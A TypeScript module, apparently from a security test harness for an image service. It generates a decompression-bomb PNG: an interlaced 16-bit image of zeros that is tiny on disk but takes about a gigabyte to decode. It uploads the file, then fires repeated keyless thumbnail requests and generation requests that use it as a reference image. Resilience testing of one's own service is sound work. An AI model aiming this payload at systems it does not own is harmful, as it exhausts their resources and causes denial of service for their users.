import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { crc32, createDeflate } from 'node:zlib';
import type { UploadReply } from '@darkroom/protocol';
import { adam7 } from '../../../src/media/codec/complete-png.ts';
import { type Attack, repeat, shoot, type Target } from '../target.ts';

/** Uploads a picture and returns its public address. */
export async function upload(target: Target, picture: Buffer): Promise<string> {
  const reply = await shoot(target, {}, { method: 'POST', path: '/upload-url', body: '{"file_type":"png"}' });
  const { upload_url, public_url }: UploadReply = JSON.parse(reply);
  const headers = { 'content-type': 'image/png' };
  await shoot(target, {}, { method: 'PUT', path: upload_url, body: picture, headers });
  return public_url;
}

/** Asks without a key for thumbnails of a small file that takes a gigabyte to decode. */
export function attackWithThumbnails(pictureUrl: string): Attack {
  return (target, answers) =>
    repeat(target, 6, () =>
      shoot(target, answers, { path: `${pictureUrl}/thumbnail`, headers: { authorization: '' } }),
    );
}

/** Uses the same file as a reference. */
export function attackWithReferences(pictureUrl: string): Attack {
  const body = JSON.stringify({
    model: 'gemini-3-pro-image-preview',
    payload: { prompt: 'a siege', image: pictureUrl, number_of_images: 4 },
  });
  return (target, answers) =>
    repeat(target, 1, () => shoot(target, answers, { method: 'POST', path: '/requests', body }));
}

/** A PNG of `side` × `side` pixels, interlaced, with 16 bits per channel; a thousandth of the size of its pixels. */
export async function createHugePng(side: number): Promise<Buffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([16, 6, 0, 0, 1], 8);
  // Every pass has rows of a filter byte and eight bytes per pixel; all of them are zero.
  const bytes = adam7.reduce((sum, [x, y, dx, dy]) => {
    const width = Math.ceil((side - x) / dx);
    const height = Math.ceil((side - y) / dy);
    return sum + height * (1 + width * 8);
  }, 0);
  const data = await buffer(Readable.from(toZeros(bytes)).pipe(createDeflate({ level: 1 })));
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
  return Buffer.concat([signature, toChunk('IHDR', header), toChunk('IDAT', data), toChunk('IEND', Buffer.alloc(0))]);
}

function* toZeros(bytes: number): Generator<Buffer> {
  const slab = Buffer.alloc(1 << 20);
  for (let left = bytes; left > 0; left -= slab.length) yield slab.subarray(0, Math.min(left, slab.length));
}

function toChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const ends = Buffer.alloc(8);
  ends.writeUInt32BE(data.length, 0);
  ends.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)]);
}
